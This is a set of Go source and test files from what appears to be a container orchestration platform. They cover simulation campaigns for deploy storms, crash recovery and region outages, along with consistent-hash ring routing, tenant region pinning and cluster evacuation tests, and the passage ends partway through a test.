			steps = append(steps, Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand))
		case 3:
			steps = append(steps, StopWorkload())
		case 4:
			steps = append(steps, Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand))
		case 5:
			steps = append(steps, CrashRandomNode(), JoinNode(nodeCapacity))
		case 6:
			steps = append(steps, DrainRandomNode(-1))
		case 7:
			steps = append(steps, CordonRandomNode(), UncordonRandomNode())
		default:
			steps = append(steps, AdvanceClock(100))
		}
	}
	// The cold-restart leg: parked slots must not survive recovery. The
	// deploy/stop-newest pair guarantees a slot is idle at the kill; the
	// first deploy after the restart must therefore be a miss (the pool
	// restarts cold), and the final pair proves warm claims work again
	// post-recovery.
	steps = append(steps,
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand),
		StopNewestWorkload(),
		KillRestart(),
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand),
		StopNewestWorkload(),
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand),
		AdvanceClock(200),
	)
	return Scenario{Name: "deploy-storm", Seed: seed, Config: cfg,
		Persist: true, Steps: steps}
}

// WireDeployStormCampaign is the networked-control-plane storm: the
// platform is hosted behind the geniod HTTP handler on an httptest
// listener and every deployment — floods, async cancel waves, the lot —
// crosses the full wire stack (Ed25519-signed request, encode, HTTP,
// typed-error decode) while node churn and metric bursts run in-process
// underneath. The lifecycle-ledger-balanced, no-silent-event-drops, and
// cancelled-never-placed invariants must hold across the wire exactly
// as they do in-process.
func WireDeployStormCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		WireDeploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
	}
	for wave := 0; wave < 4; wave++ {
		steps = append(steps,
			WireDeployFlood(6+r.Intn(6), "acme", smallDemand, allImageRefs...),
			WireDeployBatch(4+r.Intn(5), "acme", smallDemand, allImageRefs...),
			WireCancelStorm(3+r.Intn(3), "acme", smallDemand,
				CleanImageRef, SASTFlaggedImageRef),
		)
		switch r.Intn(3) {
		case 0:
			steps = append(steps, CrashRandomNode(), JoinNode(nodeCapacity))
		case 1:
			steps = append(steps, MetricBurst(30+r.Intn(40)))
		default:
			steps = append(steps, AdvanceClock(150))
		}
	}
	steps = append(steps, WireLedgerProbe(), AdvanceClock(200))
	return Scenario{Name: "wire-deploy-storm", Seed: seed, Config: core.SecureConfig(), Wire: true, Steps: steps}
}

// KillRestartCampaign is the durability campaign: ordinary mixed traffic
// (joins, crashes, deploys across the verdict spectrum, stops, cordons,
// incident storms) on a WAL-backed platform, with the process killed at a
// seeded random step and rebuilt from its data directory — twice, so
// recovery is also exercised over a directory that already holds a
// snapshot from the first incarnation's cadence. The recovery-exact
// invariant demands the post-recovery state equal the pre-crash
// fingerprint byte for byte; every other invariant keeps running across
// the restarts, so recovered state must satisfy the full dependability
// surface, not merely equal itself.
//
// ONU churn is deliberately absent: far-edge infrastructure objects (OLT
// key material, attested TPM state) are process state, re-established by
// re-provisioning rather than replayed from the log.
func KillRestartCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 20000, MemoryMB: 40960}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("acme", SASTFlaggedImageRef, orchestrator.IsolationHard, smallDemand),
	}
	traffic := func() Step {
		switch r.Intn(7) {
		case 0:
			return JoinNode(nodeCapacity)
		case 1:
			return CrashRandomNode()
		case 2:
			return Deploy("acme", allImageRefs[r.Intn(len(allImageRefs))],
				orchestrator.IsolationSoft, smallDemand)
		case 3:
			return StopWorkload()
		case 4:
			return CordonRandomNode()
		case 5:
			return IncidentStorm(2+r.Intn(3), 0.4, "acme")
		default:
			return AdvanceClock(100)
		}
	}
	// The crash lands at a seeded random step inside the traffic. The
	// join+deploy immediately ahead of it guarantee the recovered state is
	// never trivially empty, whatever the seeded storm stopped or crashed.
	for i, n := 0, 5+r.Intn(8); i < n; i++ {
		steps = append(steps, traffic())
	}
	steps = append(steps,
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand),
		KillRestart())
	for i, n := 0, 4+r.Intn(6); i < n; i++ {
		steps = append(steps, traffic())
	}
	steps = append(steps, KillRestart(), AdvanceClock(200))
	return Scenario{Name: "kill-restart", Seed: seed, Config: core.SecureConfig(),
		Persist: true, Steps: steps}
}

// RegionOutageCampaign is the federation storm: a three-member fleet
// across two regions — edge-a and edge-b in region-a (edge-a being the
// platform's default member), edge-c alone in region-b — takes mixed
// tenant traffic with tenant gov hard-pinned to region-a, then loses
// edge-b to a full evacuation mid-storm: every workload it held is
// re-placed through the ring into surviving members honouring the pin,
// its nodes die with it, and traffic keeps arriving afterwards. The
// no-cross-region-leak invariant checks residency after every step, and
// the whole pre-existing invariant surface (quota, capacity, drain
// accounting, event ledger) runs per member throughout.
func RegionOutageCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 24000, MemoryMB: 49152}),
		SetQuota("gov", orchestrator.Resources{CPUMilli: 12000, MemoryMB: 24576}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		JoinFedNode("edge-b", nodeCapacity),
		JoinFedNode("edge-b", nodeCapacity),
		JoinFedNode("edge-c", nodeCapacity),
		JoinFedNode("edge-c", nodeCapacity),
		// Baseline traffic: ring-routed, pinned, and region-constrained.
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("gov", CleanImageRef, orchestrator.IsolationHard, smallDemand),
		DeployRegion("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand, "region-b"),
		// A pinned tenant asking for a foreign region is refused outright.
		DeployRegion("gov", CleanImageRef, orchestrator.IsolationSoft, smallDemand, "region-b"),
	}
	for i := 0; i < 8; i++ {
		switch r.Intn(4) {
		case 0:
			steps = append(steps, Deploy("acme", allImageRefs[r.Intn(len(allImageRefs))],
				orchestrator.IsolationSoft, smallDemand))
		case 1:
			steps = append(steps, Deploy("gov", CleanImageRef, orchestrator.IsolationSoft, smallDemand))
		case 2:
			steps = append(steps, DeployRegion("acme", CleanImageRef, orchestrator.IsolationSoft,
				smallDemand, "region-a"))
		default:
			steps = append(steps, AdvanceClock(100))
		}
	}
	// The outage: edge-b — half of region-a's capacity, never the default
	// member — evacuates mid-storm; the pin must hold through re-placement
	// (gov workloads may only land on edge-a) while acme's move anywhere.
	steps = append(steps,
		IncidentStorm(4, 0.4, "acme"),
		EvacuateClusterStep("edge-b"),
		Deploy("gov", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		DeployRegion("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand, "region-b"),
	)
	for i := 0; i < 6; i++ {
		switch r.Intn(4) {
		case 0:
			steps = append(steps, Deploy("acme", allImageRefs[r.Intn(len(allImageRefs))],
				orchestrator.IsolationSoft, smallDemand))
		case 1:
			steps = append(steps, CrashRandomNode())
		case 2:
			steps = append(steps, ONUChurn(1+r.Intn(3)))
		default:
			steps = append(steps, Deploy("gov", CleanImageRef, orchestrator.IsolationHard, smallDemand))
		}
	}
	steps = append(steps, PlacementSpreadReport(), AdvanceClock(200))
	return Scenario{
		Name: "region-outage", Seed: seed, Config: core.SecureConfig(), Steps: steps,
		Federation: []FedMember{
			{Name: "edge-a", Region: "region-a"},
			{Name: "edge-b", Region: "region-a"},
			{Name: "edge-c", Region: "region-b"},
		},
		Pins: []TenantPin{{Tenant: "gov", Region: "region-a"}},
	}
}

// IncidentStormCampaign models runtime threat pressure: waves of mixed
// benign/malicious traces with a rising attack ratio, through sandbox
// enforcement and falco detection.
func IncidentStormCampaign(seed int64) Scenario {
	steps := []Step{
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("acme", SASTFlaggedImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("rival", CleanImageRef, orchestrator.IsolationHard, smallDemand),
	}
	for wave := 0; wave < 5; wave++ {
		steps = append(steps,
			IncidentStorm(8, 0.15*float64(wave+1), "acme"),
			AdvanceClock(500),
		)
	}
	return Scenario{Name: "incident-storm", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}
