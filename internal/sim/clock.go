package sim

import "sync"

// Clock is the deterministic virtual clock every simulated subsystem
// shares. Time only moves when a step (or an injected fault, like a slow
// scanner) advances it, so a run's timeline is a pure function of the
// scenario — wall-clock speed of the host never leaks into a report.
// Safe for concurrent use: admission fan-out advances it from pool
// goroutines.
type Clock struct {
	mu sync.Mutex
	ms int64
}

// NewClock creates a clock at the given origin (milliseconds).
func NewClock(originMs int64) *Clock {
	return &Clock{ms: originMs}
}

// NowMs returns the current virtual time in milliseconds.
func (c *Clock) NowMs() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ms
}

// Advance moves the clock forward by d milliseconds and returns the new
// time. Negative d is ignored: virtual time never rewinds.
func (c *Clock) Advance(d int64) int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	if d > 0 {
		c.ms += d
	}
	return c.ms
}

// Source adapts the clock to the func() int64 seam the platform layers
// accept (core.WithClock, Cluster.SetClock, falco SetTimeSource).
func (c *Clock) Source() func() int64 {
	return c.NowMs
}
