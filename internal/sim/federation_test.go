package sim

// Federation-campaign coverage beyond the generic determinism gates: the
// region-outage campaign exists to drive the federated control plane
// through the storms the paper cares about — residency pins, ring
// routing, and a full mid-storm cluster evacuation — so these tests
// assert those paths actually ran, not merely that nothing broke.

import (
	"strings"
	"testing"
)

// TestRegionOutageExercisesFederation: across seeds the campaign must
// take every federated path it audits — a residency rejection for the
// pinned tenant, a successful evacuation of a non-default member — and
// the no-cross-region-leak invariant must be armed and clean throughout.
func TestRegionOutageExercisesFederation(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rep, js := runJSON(t, "region-outage", seed)
		if !rep.Passed {
			t.Fatalf("seed %d violated invariants:\n%s", seed, js)
		}
		armed := false
		for _, inv := range rep.Invariants {
			if inv == "no-cross-region-leak" {
				armed = true
			}
		}
		if !armed {
			t.Fatalf("seed %d: no-cross-region-leak not in the invariant set", seed)
		}
		var pinned, evacuated bool
		for _, s := range rep.Steps {
			if s.Status == "region-pinned" {
				pinned = true
			}
			if s.Name == "cluster-evacuate" {
				if s.Status != "evacuated" {
					t.Fatalf("seed %d: evacuation did not succeed: %s %s", seed, s.Status, s.Detail)
				}
				if !strings.Contains(s.Detail, "cluster edge-b down") {
					t.Fatalf("seed %d: unexpected evacuation detail %q", seed, s.Detail)
				}
				evacuated = true
			}
		}
		if !pinned {
			t.Fatalf("seed %d: no deploy was refused by the residency pin", seed)
		}
		if !evacuated {
			t.Fatalf("seed %d: the campaign never evacuated a cluster", seed)
		}
	}
}

// TestFederatedScenarioSpansMembers: workloads of a federated run land
// on more than one member (the ring actually distributes), and the
// final report's fleet inventory covers every member's nodes.
func TestFederatedScenarioSpansMembers(t *testing.T) {
	rep, js := runJSON(t, "region-outage", 7)
	// Six nodes join (two per member), edge-b's two die with the
	// evacuation; random crashes may thin the rest but the survivors in
	// the final inventory must span members (olt names are sequential:
	// 001-002 default, 003-004 edge-b, 005-006 edge-c).
	for _, n := range rep.Final.LiveNodes {
		if strings.HasPrefix(n, "olt-003") || strings.HasPrefix(n, "olt-004") {
			t.Fatalf("evacuated member's node %s still in the final inventory:\n%s", n, js)
		}
	}
	if rep.Final.Workloads == 0 {
		t.Fatalf("federated run ended with no workloads:\n%s", js)
	}
}

// TestFederatedPersistRefused: membership is boot configuration, not
// durable state — a federated scenario asking for persistence must be
// refused up front rather than silently resurrecting evacuated members
// on a kill-restart.
func TestFederatedPersistRefused(t *testing.T) {
	sc, err := NewCampaign("region-outage", 1)
	if err != nil {
		t.Fatal(err)
	}
	sc.Persist = true
	if _, err := NewEngine(nil).Run(sc); err == nil {
		t.Fatal("federated persistent scenario accepted")
	}
}
