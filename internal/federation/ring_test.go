package federation

import (
	"fmt"
	"testing"
)

func ringOf(n int) *Ring {
	r := NewRing(DefaultReplicas)
	for i := 0; i < n; i++ {
		r.Add(fmt.Sprintf("cluster-%02d", i))
	}
	return r
}

func sampleOwners(r *Ring, keys int) map[string]string {
	owners := make(map[string]string, keys)
	for i := 0; i < keys; i++ {
		k := fmt.Sprintf("tenant-%d", i%97)
		d := fmt.Sprintf("sha256:%08x", i)
		o, ok := r.Owner(k, d)
		if !ok {
			panic("ring empty")
		}
		owners[k+"\x00"+d] = o
	}
	return owners
}

// TestRingStability pins the consistent-hash minimal-disruption
// property the ISSUE budgets: adding or removing one cluster in a
// 16-cluster ring remaps at most 2/16 of a 10k-key sample, and every
// remapped key moves to (or from) the changed member only.
func TestRingStability(t *testing.T) {
	const keys = 10_000
	budget := keys * 2 / 16 // 1250

	cases := []struct {
		name   string
		mutate func(r *Ring) string // returns the changed member
		added  bool
	}{
		{"add one to 16", func(r *Ring) string { r.Add("cluster-new"); return "cluster-new" }, true},
		{"remove one of 16", func(r *Ring) string { r.Remove("cluster-07"); return "cluster-07" }, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := ringOf(16)
			before := sampleOwners(r, keys)
			changed := tc.mutate(r)
			after := sampleOwners(r, keys)

			moved := 0
			for k, was := range before {
				now := after[k]
				if was == now {
					continue
				}
				moved++
				if tc.added && now != changed {
					t.Fatalf("key moved to %s, not the added member %s", now, changed)
				}
				if !tc.added && was != changed {
					t.Fatalf("key moved from %s, but only %s left the ring", was, changed)
				}
			}
			if moved > budget {
				t.Fatalf("%d/%d keys remapped, budget %d (2/16)", moved, keys, budget)
			}
			if moved == 0 {
				t.Fatalf("no keys remapped — the change had no effect")
			}
		})
	}
}

// TestRingDistribution sanity-checks that 128 virtual nodes per member
// keep ownership of a 10k-key sample roughly fair across 16 members.
func TestRingDistribution(t *testing.T) {
	r := ringOf(16)
	counts := make(map[string]int)
	for _, o := range sampleOwners(r, 10_000) {
		counts[o]++
	}
	if len(counts) != 16 {
		t.Fatalf("only %d of 16 members own keys", len(counts))
	}
	for m, c := range counts {
		// fair share is 625; 128 vnodes leaves real variance, so only
		// catastrophic skew (>6x either way) fails.
		if c < 100 || c > 3750 {
			t.Fatalf("member %s owns %d of 10000 keys — distribution badly skewed", m, c)
		}
	}
}

// TestRingLookupZeroAlloc pins the zero-allocation contract on the
// per-deploy hot path.
func TestRingLookupZeroAlloc(t *testing.T) {
	r := ringOf(16)
	if allocs := testing.AllocsPerRun(100, func() {
		if _, ok := r.Owner("tenant-acme", "sha256:deadbeefcafef00d"); !ok {
			t.Fatal("owner lookup failed")
		}
	}); allocs != 0 {
		t.Fatalf("Owner allocated %.1f times per lookup, want 0", allocs)
	}
}

// TestRingWalk checks that Walk visits every member exactly once, in a
// stable order, starting at the key's owner.
func TestRingWalk(t *testing.T) {
	r := ringOf(8)
	owner, _ := r.Owner("t", "d")
	var order []string
	r.Walk("t", "d", func(m string) bool {
		order = append(order, m)
		return true
	})
	if len(order) != 8 {
		t.Fatalf("walk visited %d members, want 8", len(order))
	}
	if order[0] != owner {
		t.Fatalf("walk started at %s, owner is %s", order[0], owner)
	}
	seen := make(map[string]bool)
	for _, m := range order {
		if seen[m] {
			t.Fatalf("walk visited %s twice", m)
		}
		seen[m] = true
	}
	// Early termination stops the walk.
	visits := 0
	r.Walk("t", "d", func(string) bool { visits++; return visits < 3 })
	if visits != 3 {
		t.Fatalf("walk continued past visit returning false: %d visits", visits)
	}
}

// TestRingEmptyAndSingle covers the degenerate rings.
func TestRingEmptyAndSingle(t *testing.T) {
	r := NewRing(0)
	if _, ok := r.Owner("t", "d"); ok {
		t.Fatal("empty ring claimed an owner")
	}
	r.Walk("t", "d", func(string) bool { t.Fatal("empty ring walked"); return false })

	r.Add("only")
	r.Add("only") // duplicate add is a no-op
	if r.Len() != 1 {
		t.Fatalf("duplicate Add grew the ring to %d", r.Len())
	}
	if o, ok := r.Owner("t", "d"); !ok || o != "only" {
		t.Fatalf("single-member ring owner = %q, %v", o, ok)
	}
	r.Remove("absent") // no-op
	r.Remove("only")
	if r.Len() != 0 {
		t.Fatalf("ring not empty after removing last member")
	}
}

func BenchmarkRingAdd(b *testing.B) {
	for i := 0; i < b.N; i++ {
		r := ringOf(16)
		r.Add("cluster-new")
	}
}
