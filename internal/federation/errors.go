package federation

import (
	"errors"
	"fmt"

	"genio/internal/orchestrator"
)

// Sentinels for errors.Is classification, mirroring the orchestrator
// taxonomy: every typed federation error also matches
// orchestrator.ErrRejected, so existing "was this deploy rejected?"
// call sites classify federated rejections without new plumbing.
var (
	// ErrRegionPinned marks deployments refused because they would
	// violate a tenant's data-residency pin.
	ErrRegionPinned = errors.New("federation: region pinned")
	// ErrClusterNotFound marks operations addressing an unknown cluster.
	ErrClusterNotFound = errors.New("federation: cluster not found")
)

// RegionPinnedError reports a deployment that asked for a region the
// tenant's residency pin forbids. The pin is a hard constraint: the
// federation never places (even transiently) a pinned tenant's workload
// outside its region, so the request is refused rather than rerouted.
type RegionPinnedError struct {
	Workload  string
	Tenant    string
	Region    string // the tenant's pinned region
	Requested string // the region the deploy asked for
}

// Error describes the residency conflict.
func (e *RegionPinnedError) Error() string {
	return fmt.Sprintf("workload %s: tenant %s is pinned to region %q, deploy requested %q",
		e.Workload, e.Tenant, e.Region, e.Requested)
}

// Is matches the region-pin sentinel and the rejection umbrella.
func (e *RegionPinnedError) Is(target error) bool {
	return target == ErrRegionPinned || target == orchestrator.ErrRejected
}

// FederationCapacityError reports a deployment no eligible cluster
// could take: every cluster the region filter admitted was walked in
// ring order and each either sat past its load bound with nowhere to
// overflow or rejected the deploy for capacity. Err holds the last
// per-cluster capacity error (nil when no cluster was eligible at all).
type FederationCapacityError struct {
	Workload string
	Tenant   string
	Region   string // "" = no region constraint
	Clusters int    // eligible clusters walked
	Err      error
}

// Error describes the exhausted walk.
func (e *FederationCapacityError) Error() string {
	region := e.Region
	if region == "" {
		region = "any"
	}
	if e.Err != nil {
		return fmt.Sprintf("workload %s: no capacity across %d cluster(s) in region %s: %v",
			e.Workload, e.Clusters, region, e.Err)
	}
	return fmt.Sprintf("workload %s: no eligible cluster in region %s", e.Workload, region)
}

// Unwrap exposes the last per-cluster capacity error.
func (e *FederationCapacityError) Unwrap() error { return e.Err }

// Is matches the capacity sentinel and the rejection umbrella.
func (e *FederationCapacityError) Is(target error) bool {
	return target == orchestrator.ErrNoCapacity || target == orchestrator.ErrRejected
}

// ClusterNotFoundError reports an operation addressing a cluster the
// federation does not hold.
type ClusterNotFoundError struct {
	Cluster string
}

// Error names the missing cluster.
func (e *ClusterNotFoundError) Error() string {
	return fmt.Sprintf("federation: unknown cluster %s", e.Cluster)
}

// Is matches the cluster sentinel and the orchestrator's not-found
// sentinel, so callers probing errors.Is(err, orchestrator.ErrNotFound)
// treat unknown clusters like unknown nodes.
func (e *ClusterNotFoundError) Is(target error) bool {
	return target == ErrClusterNotFound || target == orchestrator.ErrNotFound
}

// DuplicateClusterError reports an AddCluster under a name the
// federation already holds.
type DuplicateClusterError struct {
	Cluster string
}

// Error names the conflict.
func (e *DuplicateClusterError) Error() string {
	return fmt.Sprintf("federation: cluster %s already exists", e.Cluster)
}

// Is matches the orchestrator's duplicate-name sentinel.
func (e *DuplicateClusterError) Is(target error) bool {
	return target == orchestrator.ErrDuplicateName
}
