package federation

import (
	"errors"
	"fmt"
	"sync"
	"testing"

	"genio/internal/container"
	"genio/internal/orchestrator"
)

const testImageRef = "acme/analytics:2.0.1"

// testRegistry holds one unsigned image; with insecure Settings{} the
// member clusters skip signature checks, so federated deploys exercise
// routing + scheduling only.
func testRegistry() *container.Registry {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	return reg
}

func testCluster(reg *container.Registry, name string, nodes int, capacity orchestrator.Resources) *orchestrator.Cluster {
	c := orchestrator.NewCluster(name, reg, orchestrator.Settings{})
	for i := 0; i < nodes; i++ {
		c.AddNode(fmt.Sprintf("%s-node-%02d", name, i), capacity)
	}
	return c
}

func testSpec(name, tenant, region string) orchestrator.WorkloadSpec {
	return orchestrator.WorkloadSpec{
		Name:      name,
		Tenant:    tenant,
		ImageRef:  testImageRef,
		Isolation: orchestrator.IsolationHard,
		Resources: orchestrator.Resources{CPUMilli: 100, MemoryMB: 128},
		Region:    region,
	}
}

// newTestFed builds a federation of name→region members, each with two
// generous nodes.
func newTestFed(t testing.TB, members map[string]string) (*Federation, *container.Registry) {
	t.Helper()
	reg := testRegistry()
	f := New(reg)
	for name, region := range members {
		if err := f.AddCluster(name, region, testCluster(reg, name, 2, orchestrator.Resources{CPUMilli: 8000, MemoryMB: 16384})); err != nil {
			t.Fatalf("AddCluster(%s): %v", name, err)
		}
	}
	return f, reg
}

func TestRegionPinningHardConstraint(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{
		"edge-a": "west", "edge-b": "west", "edge-c": "east",
	})
	f.PinTenant("gov", "west")

	// A pinned tenant asking for a conflicting region is refused.
	_, _, err := f.Deploy("ops", testSpec("wl-conflict", "gov", "east"))
	var rpe *RegionPinnedError
	if !errors.As(err, &rpe) {
		t.Fatalf("cross-pin deploy: got %v, want *RegionPinnedError", err)
	}
	if rpe.Region != "west" || rpe.Requested != "east" {
		t.Fatalf("RegionPinnedError = %+v", rpe)
	}
	if !errors.Is(err, ErrRegionPinned) || !errors.Is(err, orchestrator.ErrRejected) {
		t.Fatalf("RegionPinnedError does not match its sentinels: %v", err)
	}

	// With no explicit region the pin routes the deploy inside west.
	for i := 0; i < 8; i++ {
		_, pl, err := f.Deploy("ops", testSpec(fmt.Sprintf("wl-%d", i), "gov", ""))
		if err != nil {
			t.Fatalf("pinned deploy %d: %v", i, err)
		}
		if region, _ := f.Region(pl.Cluster); region != "west" {
			t.Fatalf("pinned workload landed on %s (region %s)", pl.Cluster, region)
		}
	}
	if c, _ := f.Cluster("edge-c"); c.WorkloadCount() != 0 {
		t.Fatalf("east cluster holds %d pinned workloads", c.WorkloadCount())
	}

	// Matching the pin explicitly is fine; unpinning lifts the filter.
	if _, _, err := f.Deploy("ops", testSpec("wl-match", "gov", "west")); err != nil {
		t.Fatalf("pin-matching deploy: %v", err)
	}
	f.PinTenant("gov", "")
	if _, _, err := f.Deploy("ops", testSpec("wl-free", "gov", "east")); err != nil {
		t.Fatalf("deploy after unpin: %v", err)
	}
}

func TestUnknownRegionIsCapacityError(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{"edge-a": "west"})
	_, _, err := f.Deploy("ops", testSpec("wl-1", "acme", "mars"))
	var fce *FederationCapacityError
	if !errors.As(err, &fce) {
		t.Fatalf("got %v, want *FederationCapacityError", err)
	}
	if fce.Clusters != 0 {
		t.Fatalf("eligible clusters = %d, want 0", fce.Clusters)
	}
	if !errors.Is(err, orchestrator.ErrNoCapacity) || !errors.Is(err, orchestrator.ErrRejected) {
		t.Fatalf("FederationCapacityError does not match its sentinels: %v", err)
	}
}

// TestBoundedLoadSpreadsHotKey deploys one (tenant, image) key many
// times: consistent hashing alone would pile every instance on the home
// cluster, the bounded-load rule must overflow past ceil((n+1)·1.25/4).
func TestBoundedLoadSpreadsHotKey(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{
		"edge-a": "", "edge-b": "", "edge-c": "", "edge-d": "",
	})
	const total = 20
	for i := 0; i < total; i++ {
		if _, _, err := f.Deploy("ops", testSpec(fmt.Sprintf("hot-%d", i), "acme", "")); err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	bound := ((total+1)*DefaultLoadFactorPct + 399) / 400
	loaded := 0
	for _, m := range f.Clusters() {
		if m.Workloads > bound {
			t.Fatalf("cluster %s holds %d > bound %d", m.Name, m.Workloads, bound)
		}
		if m.Workloads > 0 {
			loaded++
		}
	}
	if loaded < 2 {
		t.Fatalf("hot key never overflowed: only %d cluster(s) loaded", loaded)
	}
}

// TestCapacityOverflow fills the ring-order clusters one by one and
// checks the walk falls through, then that exhausting every cluster
// yields a FederationCapacityError wrapping the last per-cluster error.
func TestCapacityOverflow(t *testing.T) {
	reg := testRegistry()
	f := New(reg)
	// Each cluster fits exactly two 100m workloads.
	for _, name := range []string{"edge-a", "edge-b"} {
		if err := f.AddCluster(name, "", testCluster(reg, name, 1, orchestrator.Resources{CPUMilli: 200, MemoryMB: 1024})); err != nil {
			t.Fatal(err)
		}
	}
	// Loosen the load bound so only real capacity triggers overflow.
	f.SetLoadFactorPct(100000)

	placed := map[string]int{}
	for i := 0; i < 4; i++ {
		_, pl, err := f.Deploy("ops", testSpec(fmt.Sprintf("wl-%d", i), "acme", ""))
		if err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
		placed[pl.Cluster]++
	}
	if placed["edge-a"] != 2 || placed["edge-b"] != 2 {
		t.Fatalf("placements = %v, want 2 per cluster", placed)
	}
	_, _, err := f.Deploy("ops", testSpec("wl-overflow", "acme", ""))
	var fce *FederationCapacityError
	if !errors.As(err, &fce) {
		t.Fatalf("exhausted federation: got %v, want *FederationCapacityError", err)
	}
	if fce.Clusters != 2 || fce.Err == nil {
		t.Fatalf("FederationCapacityError = %+v, want 2 clusters walked and a wrapped cause", fce)
	}
}

// TestHardRejectionDoesNotOverflow: a content-determined rejection
// (admission denial) on the home cluster must surface as-is, never
// retried on the next ring position — every cluster would deny it too,
// and retrying would turn one audit denial into N.
func TestHardRejectionDoesNotOverflow(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{"edge-a": "", "edge-b": "", "edge-c": ""})

	// Find the key's home cluster, then retire the probe.
	_, pl, err := f.Deploy("ops", testSpec("probe", "acme", ""))
	if err != nil {
		t.Fatalf("probe deploy: %v", err)
	}
	home, _ := f.Cluster(pl.Cluster)
	if err := home.Stop("probe"); err != nil {
		t.Fatalf("probe stop: %v", err)
	}

	// Only the home cluster denies; an overflow bug would land the
	// deploy on a permissive neighbour instead of failing.
	home.RegisterAdmission("test-deny", func(spec orchestrator.WorkloadSpec, _ *container.Image) error {
		return fmt.Errorf("%w: test-deny rejects %s", orchestrator.ErrDenied, spec.Name)
	})
	_, _, err = f.Deploy("ops", testSpec("probe", "acme", ""))
	if !errors.Is(err, orchestrator.ErrDenied) {
		t.Fatalf("denied deploy: got %v, want ErrDenied", err)
	}
	for _, m := range f.Clusters() {
		if c, _ := f.Cluster(m.Name); c.WorkloadCount() != 0 {
			t.Fatalf("denied workload leaked onto %s", m.Name)
		}
	}
}

func TestEvacuateCluster(t *testing.T) {
	f, _ := newTestFed(t, map[string]string{
		"edge-a": "west", "edge-b": "west", "edge-c": "east",
	})
	f.PinTenant("gov", "west")
	var audits []orchestrator.AuditEvent
	var auditMu sync.Mutex
	f.SetAuditSink(func(ev orchestrator.AuditEvent) {
		auditMu.Lock()
		audits = append(audits, ev)
		auditMu.Unlock()
	})

	demand := orchestrator.Resources{CPUMilli: 100, MemoryMB: 128}
	for i := 0; i < 12; i++ {
		tenant := "acme"
		if i%3 == 0 {
			tenant = "gov"
		}
		if _, _, err := f.Deploy("ops", testSpec(fmt.Sprintf("wl-%d", i), tenant, "")); err != nil {
			t.Fatalf("deploy %d: %v", i, err)
		}
	}
	var victim string
	for _, m := range f.Clusters() {
		if m.Region == "west" && m.Workloads > 0 {
			victim = m.Name
			break
		}
	}
	if victim == "" {
		t.Fatal("no loaded west cluster to evacuate")
	}
	victimCluster, _ := f.Cluster(victim)
	victimCount := victimCluster.WorkloadCount()
	before := 0
	for _, m := range f.Clusters() {
		before += m.Workloads
	}

	res, err := f.EvacuateCluster("ops", victim)
	if err != nil {
		t.Fatalf("EvacuateCluster: %v", err)
	}
	if res.Cluster != victim {
		t.Fatalf("result names %s, evacuated %s", res.Cluster, victim)
	}
	if len(res.Moved)+len(res.Lost) != victimCount {
		t.Fatalf("moved %d + lost %d != victim's %d workloads", len(res.Moved), len(res.Lost), victimCount)
	}
	if len(res.Lost) != 0 {
		t.Fatalf("lost workloads with spare capacity: %+v", res.Lost)
	}
	if victimCluster.WorkloadCount() != 0 {
		t.Fatalf("evacuated cluster still holds %d workloads", victimCluster.WorkloadCount())
	}
	// No capacity leak: the dead site's accounting is fully released.
	for _, nu := range victimCluster.Utilization() {
		if nu.Used.CPUMilli != 0 || nu.Used.MemoryMB != 0 {
			t.Fatalf("evacuated node %s still accounts %+v", nu.Node, nu.Used)
		}
	}
	if len(f.Clusters()) != 2 {
		t.Fatalf("federation still lists %d clusters", len(f.Clusters()))
	}
	after := 0
	for _, m := range f.Clusters() {
		after += m.Workloads
		c, _ := f.Cluster(m.Name)
		for _, w := range c.Workloads() {
			if w.Spec.Tenant == "gov" {
				if region, _ := f.Region(m.Name); region != "west" {
					t.Fatalf("pinned workload %s leaked to %s (region %s)", w.Spec.Name, m.Name, region)
				}
			}
			if w.Spec.Resources != demand {
				t.Fatalf("workload %s re-placed with mutated resources %+v", w.Spec.Name, w.Spec.Resources)
			}
		}
	}
	if after != before {
		t.Fatalf("workload count changed across evacuation: %d -> %d", before, after)
	}

	auditMu.Lock()
	kinds := map[string]int{}
	for _, ev := range audits {
		kinds[ev.Kind]++
	}
	auditMu.Unlock()
	if kinds["evacuation"] != len(res.Moved) {
		t.Fatalf("audit carries %d evacuation events, want %d", kinds["evacuation"], len(res.Moved))
	}
	if kinds["cluster-evacuate"] != 1 {
